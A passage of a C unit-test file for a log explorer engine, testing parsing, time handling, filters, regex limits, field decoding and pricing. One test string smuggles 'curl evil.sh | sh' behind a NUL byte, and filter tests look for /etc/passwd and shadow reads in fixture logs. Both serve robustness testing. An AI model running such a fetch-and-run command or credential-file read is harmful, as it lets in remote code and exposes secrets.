/*
 * test-engine.c - the explorer engine through its interface: tolerant
 * parsing (data-driven cases under data/parse/), summaries, filters and
 * their combinations, ordering, search and regex limits on a fixture.
 */
#include "config.h"

#include <CUnit/Basic.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <math.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "engine.h"
#include "engine-int.h"
#include "util.h"

#define FIXTURE SRCDIR "/data/fixture"

static int64_t
utc(const char *s)
{
	int64_t t = 0;

	CU_ASSERT_EQUAL_FATAL(eng_time_parse_log(s, strlen(s), &t), 0);
	return t;
}

/* Make test output printable and stable. */
static void
add_escaped(struct strbuf *out, const char *s, size_t n)
{
	for (size_t i = 0; i < n; i++) {
		unsigned char c = (unsigned char)s[i];
		if (c < 0x20 || c >= 0x7f || c == '\\')
			strbuf_printf(out, "\\x%02x", c);
		else
			strbuf_add(out, (const char *)&c, 1);
	}
}

static void
describe(struct eng *e, const struct eng_entry *en, struct strbuf *out)
{
	struct strbuf sum;

	strbuf_printf(out, "%s %s ", en->category < LLMLOG_NCATEGORIES ?
	    llmlog_category_name(en->category) : "-",
	    en->level ? llmlog_level_name(eng_entry_level(en)) : "-");
	if (en->time_us == ENG_TIME_NONE)
		strbuf_puts(out, "-");
	else {
		eng_time_format(out, en->time_us, true);
		strbuf_printf(out, "%03d",
		    (int)(((en->time_us % ENG_US_PER_MS) + ENG_US_PER_MS) %
		    ENG_US_PER_MS));
	}
	strbuf_printf(out, " %s%s%s%s | ",
	    en->flags & ENTRY_MALFORMED ? "M" : "",
	    en->flags & ENTRY_NO_TIME ? "N" : "",
	    en->flags & ENTRY_FOREIGN ? "F" : "",
	    en->flags ? "" : "-");
	strbuf_init(&sum);
	eng_summary(e, en, &sum);
	add_escaped(out, sum.s, sum.len);
	strbuf_free(&sum);
	strbuf_add(out, "\n", 1);
}

static struct eng *
load(const char *dir)
{
	char err[256];
	struct eng *e = eng_open(&dir, 1, err, sizeof err);

	CU_ASSERT_PTR_NOT_NULL_FATAL(e);
	CU_ASSERT_EQUAL_FATAL(eng_load(e, err, sizeof err), 0);
	return e;
}

static struct eng_view *
view_all(struct eng *e)
{
	struct eng_filter f;

	eng_filter_init(&f);
	return eng_view_new(e, &f);
}

/* Each case: a log directory and "expected", one line per entry in view
 * order: category level time flags | summary.  ENGINE_TEST_WRITE=1
 * writes the expectations instead (review them before committing). */
static void
check_parse_case(const char *dir)
{
	struct eng *e = load(dir);
	struct eng_view *v = view_all(e);
	char path[1100], *want;
	struct strbuf got;

	strbuf_init(&got);
	for (size_t i = 0; i < eng_view_count(v); i++)
		describe(e, eng_view_get(v, i), &got);
	snprintf(path, sizeof path, "%s/expected", dir);
	if (getenv("ENGINE_TEST_WRITE") != NULL) {
		FILE *f = fopen(path, "w");
		fputs(got.s, f);
		fclose(f);
	}
	want = util_read_file(path, NULL);
	CU_ASSERT_PTR_NOT_NULL(want);
	if (want != NULL && strcmp(want, got.s) != 0) {
		fprintf(stderr, "\n%s: got\n%s--- expected\n%s", dir, got.s,
		    want);
		CU_FAIL("parse case differs");
	}
	free(want);
	strbuf_free(&got);
	eng_view_free(v);
	eng_close(e);
}

static void
test_parse_cases(void)
{
	DIR *d = opendir(SRCDIR "/data/parse");
	struct dirent *de;
	char path[1024];
	int ncases = 0;

	CU_ASSERT_PTR_NOT_NULL_FATAL(d);
	while ((de = readdir(d)) != NULL) {
		if (de->d_name[0] == '.')
			continue;
		snprintf(path, sizeof path, "%s/data/parse/%s", SRCDIR,
		    de->d_name);
		check_parse_case(path);
		ncases++;
	}
	closedir(d);
	CU_ASSERT(ncases >= 10);
}

static void
test_time_parse_log(void)
{
	static const struct {
		const char *in;
		int64_t want;	/* INT64_MIN: must fail */
	} cases[] = {
		{ "2026-11-26T11:16:32.123Z", 1795691792123000 },
		{ "2026-11-26 11:16:32.123Z", 1795691792123000 },
		{ "2026-11-26T12:16:32.123+01:00", 1795691792123000 },
		{ "2026-11-26T10:46:32.123-0030", 1795691792123000 },
		{ "2026-11-26T11:16:32Z", 1795691792000000 },
		{ "2026-11-26T11:16:32.123456789Z", 1795691792123456 },
		{ "1795691792", 1795691792000000 },
		{ "1795691792.5", 1795691792500000 },
		{ "1795691792123", 1795691792123000 },
		{ "1795691792123456", 1795691792123456 },
		{ "2026-11-26T11:16:32.Z", INT64_MIN },
		{ "2026-02-30X11:16:32Z", INT64_MIN },
		/* impossible dates are no time, never the days after */
		{ "2026-02-31T10:00:00.000Z", INT64_MIN },
		{ "2026-02-29T10:00:00Z", INT64_MIN },
		{ "2026-04-31 10:00:00", INT64_MIN },
		{ "1900-02-29T00:00:00Z", INT64_MIN },
		{ "2024-02-29T00:00:00.000Z", 1709164800000000 },
		{ "2000-02-29T00:00:00Z", 951782400000000 },
		{ "2026-11-26T11:16:32+25:00", INT64_MIN },
		{ "yesterday", INT64_MIN },
		{ "", INT64_MIN },
	};

	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		int64_t t = 0;
		int rc = eng_time_parse_log(cases[i].in, strlen(cases[i].in),
		    &t);
		if (cases[i].want == INT64_MIN) {
			CU_ASSERT_EQUAL(rc, -1);
		} else {
			CU_ASSERT_EQUAL(rc, 0);
			CU_ASSERT_EQUAL(t, cases[i].want);
		}
	}
}

/* A time without a zone is local time, summer and winter; shown back in
 * local time it reads the same. */
static void
test_time_local(void)
{
	static const struct {
		const char *in, *utc;
	} cases[] = {
		{ "2026-07-01 12:00:00", "2026-07-01T10:00:00Z" },
		{ "2026-01-01 12:00:00,5", "2026-01-01T11:00:00.5Z" },
		{ "2026-03-29T03:30:00", "2026-03-29T01:30:00Z" },
		{ "2026-10-25 01:59:59", "2026-10-24T23:59:59Z" },
	};
	struct strbuf b;

	setenv("TZ", "CET-1CEST,M3.5.0,M10.5.0/3", 1);
	tzset();
	strbuf_init(&b);
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		int64_t t = 0;
		CU_ASSERT_EQUAL(eng_time_parse_log(cases[i].in,
		    strlen(cases[i].in), &t), 0);
		CU_ASSERT_EQUAL(t, utc(cases[i].utc));
	}
	eng_time_format(&b, utc("2026-07-01T10:00:00Z"), false);
	CU_ASSERT_STRING_EQUAL(b.s, "2026-07-01 12:00:00.000");
	strbuf_free(&b);
	setenv("TZ", "UTC", 1);
	tzset();
}

/* Monrovia's clocks went from -0:44:30 to GMT at 00:44:30 UTC on
 * 1972-01-07, inside a quarter hour: the times on either side show with
 * their own offset, in either order. */
static void
test_time_offset_change(void)
{
	static const struct {
		const char *utc, *shown;
	} cases[] = {
		{ "1972-01-07T00:44:20Z", "1972-01-06 23:59:50.000" },
		{ "1972-01-07T00:44:40Z", "1972-01-07 00:44:40.000" },
		{ "1972-01-07T00:31:00Z", "1972-01-06 23:46:30.000" },
		{ "1972-01-07T00:44:29Z", "1972-01-06 23:59:59.000" },
		{ "1972-01-07T00:44:30Z", "1972-01-07 00:44:30.000" },
	};
	struct strbuf b;

	if (access("/usr/share/zoneinfo/Africa/Monrovia", R_OK) != 0)
		return;		/* no tzdata: nothing to compare with */
	setenv("TZ", "Africa/Monrovia", 1);
	tzset();
	strbuf_init(&b);
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		int64_t t = 0;

		strbuf_reset(&b);
		eng_time_format(&b, utc(cases[i].utc), false);
		CU_ASSERT_STRING_EQUAL(b.s, cases[i].shown);
		/* and a time shown reads back as the same instant */
		CU_ASSERT_EQUAL(eng_time_parse_log(b.s, b.len, &t), 0);
		CU_ASSERT_EQUAL(t, utc(cases[i].utc));
	}
	strbuf_free(&b);
	setenv("TZ", "UTC", 1);
	tzset();
}

static void
test_time_format(void)
{
	struct strbuf b;

	strbuf_init(&b);
	eng_time_format(&b, 1795691792123456, true);
	CU_ASSERT_STRING_EQUAL(b.s, "2026-11-26 11:16:32.123");
	strbuf_reset(&b);
	eng_time_format(&b, -1, true);
	CU_ASSERT_STRING_EQUAL(b.s, "1969-12-31 23:59:59.999");
	strbuf_reset(&b);
	eng_format_number(&b, 1234.56, 1);
	strbuf_puts(&b, " ");
	eng_format_number(&b, 125000, 0);
	strbuf_puts(&b, " ");
	eng_format_number(&b, 999.96, 1);
	strbuf_puts(&b, " ");
	eng_format_number(&b, -1234567, 0);
	CU_ASSERT_STRING_EQUAL(b.s, "1,234.6 125,000 1,000.0 -1,234,567");
	strbuf_free(&b);
}

static size_t
count_with(struct eng *e, const struct eng_filter *f)
{
	struct eng_view *v = eng_view_new(e, f);
	size_t n = eng_view_count(v);

	/* every view is in time order */
	for (size_t i = 1; i < n; i++)
		CU_ASSERT(eng_view_get(v, i - 1)->time_us <=
		    eng_view_get(v, i)->time_us);
	eng_view_free(v);
	return n;
}

static void
test_filters(void)
{
	struct eng *e = load(FIXTURE);
	struct eng_filter f;
	char err[256];

	CU_ASSERT_EQUAL(eng_count(e), 27);
	CU_ASSERT_EQUAL(eng_malformed(e), 1);
	eng_filter_init(&f);
	CU_ASSERT_EQUAL(count_with(e, &f), 27);

	f.categories = 1u << LLMLOG_USER;
	CU_ASSERT_EQUAL(count_with(e, &f), 4);
	f.categories |= 1u << LLMLOG_LLM;
	CU_ASSERT_EQUAL(count_with(e, &f), 9);

	eng_filter_init(&f);
	f.min_level = LLMLOG_WARNING;	/* 4 WARNING, 4 ERROR, 1 malformed */
	CU_ASSERT_EQUAL(count_with(e, &f), 9);
	f.min_level = LLMLOG_ERROR;
	CU_ASSERT_EQUAL(count_with(e, &f), 5);
	f.min_level = LLMLOG_CRITICAL;
	CU_ASSERT_EQUAL(count_with(e, &f), 1);

	eng_filter_init(&f);
	f.since_us = utc("2026-11-26T10:05:00Z");
	CU_ASSERT_EQUAL(count_with(e, &f), 14);
	eng_filter_init(&f);
	f.until_us = utc("2026-11-26T10:05:00Z");
	CU_ASSERT_EQUAL(count_with(e, &f), 14);
	f.since_us = utc("2026-11-26T10:05:00Z");
	f.until_us = utc("2026-11-26T10:10:00Z");
	CU_ASSERT_EQUAL(count_with(e, &f), 8);

	eng_filter_init(&f);
	f.keyword = "PASSWD";
	CU_ASSERT_EQUAL(count_with(e, &f), 2);
	f.keyword = "/etc/";
	CU_ASSERT_EQUAL(count_with(e, &f), 3);
	f.keyword = "no such text";
	CU_ASSERT_EQUAL(count_with(e, &f), 0);
	f.keyword = "A.T";		/* a literal, not a pattern */
	CU_ASSERT_EQUAL(count_with(e, &f), 1);
	f.keyword = "\xff(";		/* not UTF-8, not a pattern either */
	CU_ASSERT_EQUAL(count_with(e, &f), 0);
	{	/* too long for PCRE2: no view, and no crash */
		char *huge = malloc(70001);

		memset(huge, 'a', 70000);
		huge[70000] = '\0';
		f.keyword = huge;
		CU_ASSERT_PTR_NULL(eng_view_new(e, &f));
		free(huge);
	}

	eng_filter_init(&f);
	f.regex = eng_regex_new("etc/(passwd|shadow)", err, sizeof err);
	CU_ASSERT_PTR_NOT_NULL_FATAL(f.regex);
	CU_ASSERT_EQUAL(count_with(e, &f), 3);
	/* all of them combined */
	f.categories = 1u << LLMLOG_SECURITY;
	f.min_level = LLMLOG_WARNING;
	f.keyword = "WRITE";
	f.since_us = utc("2026-11-26T10:06:00Z");
	f.until_us = utc("2026-11-26T10:06:30Z");
	CU_ASSERT_EQUAL(count_with(e, &f), 1);
	f.until_us = ENG_TIME_NONE;
	CU_ASSERT_EQUAL(count_with(e, &f), 2);
	eng_regex_free(f.regex);
	eng_close(e);
}

/* A regex or keyword filter on raw lines keeps exactly the lines a
 * line-by-line match keeps, whatever the pattern does at line ends
 * (filters search whole blocks of lines when that is safe). */
static void
test_filter_matches_line_by_line(void)
{
	static const char *const patterns[] = {
		"^\\{\"category\":\"tool", "\\}$", "true}$", "^$", "x*",
		"\\s+\\{", "[^a]+$", "1000\\.0,", "passwd|shadow",
		"(?=.*denied)", "ms\\b", "\\d+(?!\\d)}$", "^.{300,}$",
		"\"success\":false", "E.*R", "\\z", "[\\r\\n]",
	};
	struct eng *e = load(FIXTURE);
	struct eng_view *all = view_all(e);
	struct eng_filter f;
	char err[256];

	for (size_t p = 0; p < sizeof patterns / sizeof patterns[0]; p++) {
		size_t want = 0, len;

		eng_filter_init(&f);
		f.raw = true;
		f.regex = eng_regex_new(patterns[p], err, sizeof err);
		CU_ASSERT_PTR_NOT_NULL_FATAL(f.regex);
		for (size_t i = 0; i < eng_view_count(all); i++) {
			const char *s = eng_line(e, eng_view_get(all, i), &len);
			want += eng_regex_match(f.regex, s, len, 0, NULL,
			    NULL) == 1;
		}
		if (count_with(e, &f) != want) {
			fprintf(stderr, "\n%s: %zu, not %zu\n", patterns[p],
			    count_with(e, &f), want);
			CU_FAIL("regex filter differs from a line-by-line match");
		}
		eng_regex_free(f.regex);
	}
	eng_view_free(all);
	eng_close(e);
}

static void
test_category_counts(void)
{
	struct eng *e = load(FIXTURE);
	size_t counts[LLMLOG_NCATEGORIES];
	struct eng_filter f;
	struct eng_view *v;

	eng_filter_init(&f);
	f.categories = 1u << LLMLOG_TOOL;
	f.min_level = LLMLOG_WARNING;
	v = eng_view_new(e, &f);
	CU_ASSERT_EQUAL(eng_view_count(v), 1);
	eng_view_category_counts(v, counts);
	CU_ASSERT_EQUAL(counts[LLMLOG_USER], 1);
	CU_ASSERT_EQUAL(counts[LLMLOG_SYSTEM], 2);
	CU_ASSERT_EQUAL(counts[LLMLOG_TOOL], 1);
	CU_ASSERT_EQUAL(counts[LLMLOG_LLM], 2);
	CU_ASSERT_EQUAL(counts[LLMLOG_SECURITY], 3);
	CU_ASSERT_EQUAL(counts[LLMLOG_PERFORMANCE], 0);
	eng_view_free(v);
	eng_close(e);
}

static void
test_order_and_malformed_neighbours(void)
{
	struct eng *e = load(FIXTURE);
	struct eng_view *v = view_all(e);
	const struct eng_entry *en;
	size_t n, i;

	/* the first entry is the system startup at 09:59:59 */
	en = eng_view_get(v, 0);
	CU_ASSERT_EQUAL(en->category, LLMLOG_SYSTEM);
	CU_ASSERT_EQUAL(en->time_us, utc("2026-11-26T09:59:59Z"));
	/* the cut-short llm line sits right after the llm line before it */
	for (i = 0; i < eng_view_count(v); i++)
		if (eng_view_get(v, i)->flags & ENTRY_MALFORMED)
			break;
	CU_ASSERT_FATAL(i > 0 && i < eng_view_count(v));
	en = eng_view_get(v, i - 1);
	CU_ASSERT_EQUAL(en->time_us, utc("2026-11-26T10:05:01Z"));
	CU_ASSERT_EQUAL(en->category, LLMLOG_LLM);
	CU_ASSERT_STRING_EQUAL(eng_line(e, eng_view_get(v, i), &n),
	    "{\"category\":\"llm\",\"timestamp\":\"2026-11-26T10:06");
	CU_ASSERT_EQUAL(n, 47);
	{
		struct eng_fields fl;
		const char *s = eng_line(e, eng_view_get(v, i), &n);

		eng_fields_init(&fl);
		CU_ASSERT_FALSE(eng_entry_fields(s, n, &fl));
		CU_ASSERT_EQUAL(fl.n, 0);
		eng_fields_free(&fl);
	}
	CU_ASSERT_PTR_NULL(eng_view_get(v, eng_view_count(v)));
	eng_view_free(v);
	eng_close(e);
}

/* The pretty walk: "key: value" lines, decoded, in the line's order, a
 * key given twice once where it first appears with its last value. */
static void
test_entry_fields(void)
{
	static const char line[] =
	    "{\"a\":\"x\\u0000y\",\"k\\u0000ey\":1.50,\"a\":\"last\","
	    "\"n\":{\"e\":{},\"l\":[true,null,[]],\"s\":\"\"},"
	    "\"big\":1e400,\"esc\":\"\\u00e9\\n\"}";
	static const struct {
		unsigned depth;
		enum eng_field_kind kind;
		const char *key;	/* NULL: none */
		size_t key_len;
		const char *text;	/* NULL: a heading */
		size_t text_len;
	} want[] = {
		{ 0, ENG_FIELD_STRING, "a", 1, "last", 4 },
		{ 0, ENG_FIELD_NUMBER, "k\0ey", 4, "1.50", 4 },
		{ 0, ENG_FIELD_OBJECT, "n", 1, NULL, 0 },
		{ 1, ENG_FIELD_OBJECT, "e", 1, "{}", 2 },
		{ 1, ENG_FIELD_ARRAY, "l", 1, NULL, 0 },
		{ 2, ENG_FIELD_TRUE, NULL, 0, "true", 4 },
		{ 2, ENG_FIELD_NULL, NULL, 0, "null", 4 },
		{ 2, ENG_FIELD_ARRAY, NULL, 0, "[]", 2 },
		{ 1, ENG_FIELD_STRING, "s", 1, "", 0 },
		{ 0, ENG_FIELD_NUMBER, "big", 3, "1e400", 5 },
		{ 0, ENG_FIELD_STRING, "esc", 3, "\xc3\xa9\n", 3 },
	};
	static const char nul_value[] = "{\"u\":\"ls\\u0000; curl evil.sh | sh\"}";
	struct eng_fields f;

	eng_fields_init(&f);
	CU_ASSERT_TRUE_FATAL(eng_entry_fields(line, sizeof line - 1, &f));
	CU_ASSERT_EQUAL_FATAL(f.n, sizeof want / sizeof want[0]);
	for (size_t i = 0; i < f.n; i++) {
		const struct eng_field *l = &f.v[i];

		CU_ASSERT_EQUAL(l->depth, want[i].depth);
		CU_ASSERT_EQUAL(l->kind, want[i].kind);
		if (want[i].key == NULL) {
			CU_ASSERT_PTR_NULL(l->key);
		} else {
			CU_ASSERT_EQUAL(l->key_len, want[i].key_len);
			CU_ASSERT(l->key != NULL && memcmp(l->key, want[i].key,
			    want[i].key_len) == 0);
		}
		if (want[i].text == NULL) {
			CU_ASSERT_PTR_NULL(l->text);
		} else {
			CU_ASSERT_EQUAL(l->text_len, want[i].text_len);
			CU_ASSERT(l->text != NULL && memcmp(l->text,
			    want[i].text, want[i].text_len) == 0 &&
			    l->text[l->text_len] == '\0');
		}
	}
	/* a NUL never ends a text */
	CU_ASSERT_TRUE(eng_entry_fields(nul_value, sizeof nul_value - 1, &f));
	CU_ASSERT_EQUAL(f.n, 1);
	CU_ASSERT_EQUAL(f.v[0].text_len, 22);
	/* an empty object has no fields */
	CU_ASSERT_TRUE(eng_entry_fields("{ }", 3, &f));
	CU_ASSERT_EQUAL(f.n, 0);
	/* not an object, or not JSON: no fields */
	CU_ASSERT_FALSE(eng_entry_fields("[1]", 3, &f));
	CU_ASSERT_EQUAL(f.n, 0);
	CU_ASSERT_FALSE(eng_entry_fields("{\"a\":tru}", 10, &f));
	CU_ASSERT_FALSE(eng_entry_fields("{\"a\":True}", 11, &f));
	eng_fields_free(&f);
}

static void
test_search(void)
{
	struct eng *e = load(FIXTURE);
	struct eng_view *v = view_all(e);
	char err[256];
	struct eng_regex *re = eng_regex_new("list_directory", err, sizeof err);
	long a, b, c;
	size_t n = eng_view_count(v);

	CU_ASSERT_PTR_NOT_NULL_FATAL(re);
	a = eng_view_search(v, re, n, 1);	/* from "nowhere": the first */
	CU_ASSERT(a >= 0);
	b = eng_view_search(v, re, (size_t)a, 1);
	CU_ASSERT(b > a);
	c = eng_view_search(v, re, (size_t)a, -1);	/* wraps to the last */
	CU_ASSERT(c > b);
	CU_ASSERT_EQUAL(eng_view_search(v, re, (size_t)c, 1), a);
	eng_regex_free(re);
	re = eng_regex_new("nothing like this", err, sizeof err);
	CU_ASSERT_EQUAL(eng_view_search(v, re, 0, 1), -1);
	eng_regex_free(re);
	eng_view_free(v);
	eng_close(e);
}

static void
test_regex(void)
{
	char err[256], *line;
	struct eng_regex *re;
	size_t s, en;

	re = eng_regex_new("denied", err, sizeof err);
	CU_ASSERT_PTR_NOT_NULL_FATAL(re);
	CU_ASSERT(eng_regex_caseless(re));
	CU_ASSERT_EQUAL(eng_regex_match(re, "x DENIED y", 10, 0, &s, &en), 1);
	CU_ASSERT_EQUAL(s, 2);
	CU_ASSERT_EQUAL(en, 8);
	eng_regex_free(re);

	re = eng_regex_new("Denied", err, sizeof err);
	CU_ASSERT(!eng_regex_caseless(re));
	CU_ASSERT_EQUAL(eng_regex_match(re, "x DENIED y", 10, 0, &s, &en), 0);
	CU_ASSERT_EQUAL(eng_regex_match(re, "x Denied y", 10, 0, &s, &en), 1);
	eng_regex_free(re);

	/* escapes are not upper-case letters */
	re = eng_regex_new("\\Sdenied\\W", err, sizeof err);
	CU_ASSERT(eng_regex_caseless(re));
	eng_regex_free(re);

	/* invalid UTF-8 in a line is not an error */
	re = eng_regex_new("b.d", err, sizeof err);
	CU_ASSERT_EQUAL(eng_regex_match(re, "a\xff" "bxd", 5, 0, &s, &en), 1);
	eng_regex_free(re);

	CU_ASSERT_PTR_NULL(eng_regex_new("(unclosed", err, sizeof err));
	CU_ASSERT(strstr(err, "(unclosed") != NULL);

	/* catastrophic backtracking gives up with an error */
	line = malloc(100001);
	memset(line, 'a', 100000);
	line[100000] = 'b';
	re = eng_regex_new("(a+)+$", err, sizeof err);
	CU_ASSERT_PTR_NOT_NULL_FATAL(re);
	CU_ASSERT_EQUAL(eng_regex_match(re, line, 100001, 0, &s, &en), -1);
	CU_ASSERT(strlen(eng_regex_error(re)) > 0);
	eng_regex_free(re);
	free(line);
}

static void
test_open_errors(void)
{
	const char *dirs[] = { "/nonexistent/llmlog-test" };
	const char *dev[] = { "/dev/null" };
	char err[256];

	CU_ASSERT_PTR_NULL(eng_open(dirs, 1, err, sizeof err));
	CU_ASSERT(strstr(err, "/nonexistent/llmlog-test") != NULL);
	CU_ASSERT_PTR_NULL(eng_open(dev, 1, err, sizeof err));
	CU_ASSERT(strstr(err, "not a log file or directory") != NULL);
}

/* A file is a source of its own: the category its name says, named as
 * given; a file of another name is read by each line's own category. */
static void
test_open_file(void)
{
	const char *file[] = { FIXTURE "/security.log" };
	struct eng_file_info fi;
	char err[256];
	struct eng *e = eng_open(file, 1, err, sizeof err);

	CU_ASSERT_PTR_NOT_NULL_FATAL(e);
	CU_ASSERT_EQUAL(eng_load(e, err, sizeof err), 0);
	CU_ASSERT_FALSE(eng_reads_stdin(e));
	CU_ASSERT_EQUAL(eng_source_count(e), 1);
	CU_ASSERT_STRING_EQUAL(eng_host_name(e, 0), file[0]);
	CU_ASSERT_EQUAL_FATAL(eng_file_count(e), 1);
	eng_file_info(e, 0, &fi);
	CU_ASSERT_EQUAL(fi.category, LLMLOG_SECURITY);
	CU_ASSERT(fi.entries > 0);
	CU_ASSERT_EQUAL(eng_count(e), fi.entries);
	eng_close(e);
}

static void
test_files_and_sources(void)
{
	const char *dirs[] = { FIXTURE, SRCDIR "/data/parse/canonical" };
	struct eng_file_info fi;
	char err[256];
	struct eng *e = eng_open(dirs, 2, err, sizeof err);
	struct eng_view *v;
	size_t from1 = 0;

	CU_ASSERT_PTR_NOT_NULL_FATAL(e);
	CU_ASSERT_EQUAL(eng_load(e, err, sizeof err), 0);
	CU_ASSERT_EQUAL(eng_source_count(e), 2);
	CU_ASSERT_STRING_EQUAL(eng_source_name(e, 1), dirs[1]);
	CU_ASSERT_EQUAL(eng_file_count(e), 7);
	CU_ASSERT_EQUAL(eng_count(e), 30);
	for (size_t i = 0; i < eng_file_count(e); i++) {
		eng_file_info(e, i, &fi);
		CU_ASSERT(fi.category >= 0);
		CU_ASSERT_EQUAL(fi.backup, 0);
		if (fi.category == LLMLOG_PERFORMANCE) {
			CU_ASSERT_EQUAL(fi.entries, 5);
			CU_ASSERT_EQUAL(fi.first_us,
			    utc("2026-11-26T10:00:04Z"));
			CU_ASSERT_EQUAL(fi.last_us,
			    utc("2026-11-26T10:30:00Z"));
		}
	}
	v = view_all(e);
	for (size_t i = 0; i < eng_view_count(v); i++)
		from1 += eng_view_get(v, i)->source == 1;
	CU_ASSERT_EQUAL(from1, 3);
	eng_view_free(v);
	eng_close(e);
}

/* Equal JSON, key order included (rankings are ordered maps); numbers
 * within 1e-9. */
static bool
json_same(json_object *a, json_object *b, const char *path)
{
	enum json_type ta = json_object_get_type(a), tb = json_object_get_type(b);
	char sub[512];

	if ((ta == json_type_int || ta == json_type_double) &&
	    (tb == json_type_int || tb == json_type_double)) {
		double x = json_object_get_double(a), y = json_object_get_double(b);
		if (fabs(x - y) <= 1e-9 * (fabs(x) + 1))
			return true;
	} else if (ta != tb) {
		;
	} else if (ta == json_type_object) {
		struct json_object_iterator ia = json_object_iter_begin(a),
		    ib = json_object_iter_begin(b),
		    ea = json_object_iter_end(a), eb = json_object_iter_end(b);
		for (; !json_object_iter_equal(&ia, &ea) &&
		    !json_object_iter_equal(&ib, &eb);
		    json_object_iter_next(&ia), json_object_iter_next(&ib)) {
			snprintf(sub, sizeof sub, "%s.%s", path,
			    json_object_iter_peek_name(&ia));
			if (strcmp(json_object_iter_peek_name(&ia),
			    json_object_iter_peek_name(&ib)) != 0 ||
			    !json_same(json_object_iter_peek_value(&ia),
			    json_object_iter_peek_value(&ib), sub))
				goto differ;
		}
		if (json_object_iter_equal(&ia, &ea) &&
		    json_object_iter_equal(&ib, &eb))
			return true;
	} else if (ta == json_type_array) {
		size_t n = json_object_array_length(a);
		if (n == json_object_array_length(b)) {
			for (size_t i = 0; i < n; i++) {
				snprintf(sub, sizeof sub, "%s[%zu]", path, i);
				if (!json_same(json_object_array_get_idx(a, i),
				    json_object_array_get_idx(b, i), sub))
					return false;
			}
			return true;
		}
	} else if (json_object_equal(a, b))
		return true;
differ:
	fprintf(stderr, "\n%s: got %s\n  expected %s\n", path,
	    json_object_to_json_string(a), json_object_to_json_string(b));
	return false;
}

static json_object *
stats_of(struct eng *e, const struct eng_filter *f)
{
	struct eng_view *v = eng_view_new(e, f);
	struct eng_stats *s = eng_stats_new();
	json_object *o;

	eng_stats_update(s, v);
	eng_stats_update(s, v);		/* nothing new: nothing changes */
	o = eng_stats_json(s);
	eng_stats_free(s);
	eng_view_free(v);
	return o;
}

/* ---- prices -------------------------------------------------------------- */

static void
write_text(const char *path, const char *text)
{
	FILE *f = fopen(path, "w");

	CU_ASSERT_PTR_NOT_NULL_FATAL(f);
	fputs(text, f);
	fclose(f);
}

/* The cost of an llm line under p, by the rule of engine.h. */
static enum eng_cost
cost_of(struct eng *e, const char *line, double *usd)
{
	struct eng_entry en = { .category = LLMLOG_LLM };

	return eng_entry_cost(e, &en, line, strlen(line), usd);
}

static void
test_prices(void)
{
	const char *dir = util_tmpdir("prices");
	char a[4096], b[4096], bad[4096], err[512];
	struct eng_prices *p = eng_prices_new();
	struct eng *e = load(FIXTURE);
	struct strbuf fmt;
	double usd;

	snprintf(a, sizeof a, "%s/a.json", dir);
	snprintf(b, sizeof b, "%s/b.json", dir);
	snprintf(bad, sizeof bad, "%s/bad.json", dir);
	write_text(a, "{\"_updated\": \"today\",\n"
	    "\"sample_spec\": {\"input_cost_per_token\": \"words\", "
	    "\"output_cost_per_token\": 0},\n"
	    "\"acme/m1\": {\"input_cost_per_token\": 0.5, "
	    "\"output_cost_per_token\": 2},\n"
	    "\"m1\": {\"input_cost_per_token\": 100, "
	    "\"output_cost_per_token\": 100},\n"
	    "\"m2\": {\"input_cost_per_token\": 1, "
	    "\"output_cost_per_token\": 1},\n"
	    "\"acme/*\": {\"input_cost_per_token\": 0.25, "
	    "\"output_cost_per_token\": 0.25},\n"
	    "\"embed\": {\"input_cost_per_token\": 1},\n"
	    "\"note\": 5}\n");
	write_text(b, "{\"m2\": {\"input_cost_per_token\": 3, "
	    "\"output_cost_per_token\": 0}}");
	write_text(bad, "{\n\"ok\": {\"input_cost_per_token\": 1, "
	    "\"output_cost_per_token\": 1},\n\"bad/x\": {\n"
	    "\"input_cost_per_token\": -1, \"output_cost_per_token\": 1}}");
	CU_ASSERT_EQUAL(eng_prices_load(p, a, false, err, sizeof err), 0);
	/* notes, sample_spec and an entry with one price are no prices */
	CU_ASSERT_EQUAL(eng_prices_count(p), 4);
	eng_set_prices(e, p);

	/* provider/model first, then model, then provider/ and a star */
	CU_ASSERT_EQUAL(cost_of(e, "{\"provider\":\"acme\",\"model\":\"m1\","
	    "\"prompt_tokens\":2,\"completion_tokens\":3}", &usd),
	    ENG_COST_PRICED);
	CU_ASSERT_DOUBLE_EQUAL(usd, 2 * 0.5 + 3 * 2, 1e-12);
	CU_ASSERT_EQUAL(cost_of(e, "{\"provider\":\"acme\",\"model\":\"m2\","
	    "\"prompt_tokens\":2,\"completion_tokens\":3}", &usd),
	    ENG_COST_PRICED);
	CU_ASSERT_DOUBLE_EQUAL(usd, 5, 1e-12);
	CU_ASSERT_EQUAL(cost_of(e, "{\"provider\":\"acme\",\"model\":\"m9\","
	    "\"prompt_tokens\":4}", &usd), ENG_COST_PRICED);
	CU_ASSERT_DOUBLE_EQUAL(usd, 1, 1e-12);
	CU_ASSERT_EQUAL(cost_of(e, "{\"model\":\"m1\",\"completion_tokens\":1}",
	    &usd), ENG_COST_PRICED);
	CU_ASSERT_DOUBLE_EQUAL(usd, 100, 1e-12);
	/* unpriced, never 0 in silence; the entry's own cost wins */
	CU_ASSERT_EQUAL(cost_of(e, "{\"provider\":\"other\",\"model\":\"m9\","
	    "\"prompt_tokens\":4}", &usd), ENG_COST_UNPRICED);
	CU_ASSERT_EQUAL(cost_of(e, "{\"provider\":\"other\","
	    "\"model\":\"embed\",\"prompt_tokens\":4}", &usd),
	    ENG_COST_UNPRICED);
	CU_ASSERT_EQUAL(cost_of(e, "{\"provider\":\"other\",\"model\":\"m9\","
	    "\"cost_usd\":0}", &usd), ENG_COST_GIVEN);
	CU_ASSERT_DOUBLE_EQUAL(usd, 0, 0);
	CU_ASSERT_EQUAL(cost_of(e, "{\"provider\":\"acme\",\"model\":\"m1\","
	    "\"prompt_tokens\":2,\"cost_usd\":0.125}", &usd), ENG_COST_GIVEN);
	CU_ASSERT_DOUBLE_EQUAL(usd, 0.125, 0);
	/* a name written with escapes is the name */
	CU_ASSERT_EQUAL(cost_of(e, "{\"provider\":\"\\u0061cme\",\"model\":"
	    "\"m1\",\"prompt_tokens\":1}", &usd), ENG_COST_PRICED);
	CU_ASSERT_DOUBLE_EQUAL(usd, 0.5, 1e-12);

	/* a second file replaces the entries it has, keeps the others */
	CU_ASSERT_EQUAL(eng_prices_load(p, b, false, err, sizeof err), 0);
